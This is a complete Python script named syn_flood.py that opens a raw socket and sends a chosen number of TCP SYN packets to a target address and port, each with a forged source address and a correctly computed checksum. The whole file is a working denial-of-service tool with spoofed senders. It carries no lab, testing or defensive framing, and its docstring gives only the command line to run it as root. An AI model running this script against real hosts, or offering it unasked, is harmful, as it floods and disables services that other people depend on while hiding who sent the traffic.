#!/usr/bin/python3
"""SYNs from addresses that never come again: syn_flood.py ADDRESS PORT COUNT (as root)."""

import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def main():
    target = socket.inet_aton(sys.argv[1])
    port, count = int(sys.argv[2]), int(sys.argv[3])
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(count):
        source = struct.pack("!I", 0x0A000000 + i * 17 + 1)
        tcp = struct.pack("!HHIIBBHHH", 1024 + i % 60000, port, i, 0, 5 << 4, 2, 65535, 0, 0)
        pseudo = source + target + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, i & 0xFFFF, 0, 64, 6, 0, source, target)
        sock.sendto(ip + tcp, (sys.argv[1], 0))


if __name__ == "__main__":
    main()
